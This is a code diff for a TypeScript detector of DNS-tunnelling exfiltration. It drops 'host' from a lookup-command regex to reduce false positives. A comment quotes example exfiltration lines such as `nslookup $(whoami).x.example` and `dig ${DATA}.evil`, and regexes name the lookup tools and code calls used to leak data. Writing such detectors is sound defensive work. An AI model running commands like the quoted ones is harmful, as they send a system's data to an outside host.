@@ -80,7 +80,8 @@ export const urlEncodedData = {
 // command/variable output (`nslookup $(whoami).x.example`, `dig ${DATA}.evil`).
 const LONG_LABEL_RE = /(?<![\w.-])((?:[a-f0-9]{32,63}|[a-z2-7]{40,63}|[A-Z2-7]{40,63}))\.(?:[a-z0-9-]{1,63}\.){1,6}([a-z]{2,24})(?![\w-])/g;
 const FILE_EXTS = new Set(['js', 'mjs', 'cjs', 'css', 'map', 'json', 'png', 'jpg', 'jpeg', 'gif', 'svg', 'webp', 'html', 'htm', 'txt', 'py', 'ts', 'md', 'woff', 'woff2', 'ttf', 'wasm', 'zip', 'gz', 'tar', 'pack', 'idx', 'lock', 'log', 'bin', 'dat', 'pdf', 'yml', 'yaml']);
-const LOOKUP_RE = /\b(?:nslookup|dig|host|drill|Resolve-DnsName|getent\s{1,4}hosts)(?:\s{1,4}[-+@][\w=.:-]{1,40}){0,4}\s{1,4}[^\s|;&]{0,100}?(?:\$\(|`|\$\{|\$[A-Za-z_])/g;
+// `host` is left out: as a word it is everywhere in prose and template strings.
+const LOOKUP_RE = /\b(?:nslookup|dig|drill|Resolve-DnsName|getent\s{1,4}hosts)(?:\s{1,4}[-+@][\w=.:-]{1,40}){0,4}\s{1,4}[^\s|;&]{0,100}?(?:\$\(|`|\$\{|\$[A-Za-z_])/g;
 const CODE_LOOKUP_RE = /\b(?:dns\.(?:resolve\w{0,4}|lookup)|socket\.(?:gethostbyname|getaddrinfo)|dns\.resolver\.(?:resolve|query))\s{0,4}\(\s{0,4}(?:f["'][^"'\n]{0,200}\{|`[^`\n]{0,200}\$\{|[\w.]{1,60}\s{0,4}\+|["'][^"'\n]{0,200}["']\s{0,4}[+%])/g;
 
 const LONG_LABEL_GATE = /[a-f0-9]{32}|[a-z2-7]{40}|[A-Z2-7]{40}/;
@@ -102,7 +103,7 @@ function findDnsTunnels(text: string): RuleHit[] {
     out.push({ start: h.start + m.index, end: h.start + m.index + m[0].length, host: m[0].toLowerCase(), detail: 'encoded DNS label' });
   }
   for (const re of [LOOKUP_RE, CODE_LOOKUP_RE]) {
-    if (re === LOOKUP_RE && !seen('nslookup', 'dig ', 'host ', 'drill', 'resolve-dnsname', 'getent')) continue;
+    if (re === LOOKUP_RE && !seen('nslookup', 'dig ', 'drill', 'resolve-dnsname', 'getent')) continue;
     if (re === CODE_LOOKUP_RE && !seen('dns.', 'gethostbyname', 'getaddrinfo')) continue;
     re.lastIndex = 0;
     for (let m = re.exec(text); m; m = re.exec(text)) out.push({ start: m.index, end: m.index + m[0].length, detail: 'lookup of a computed name' });
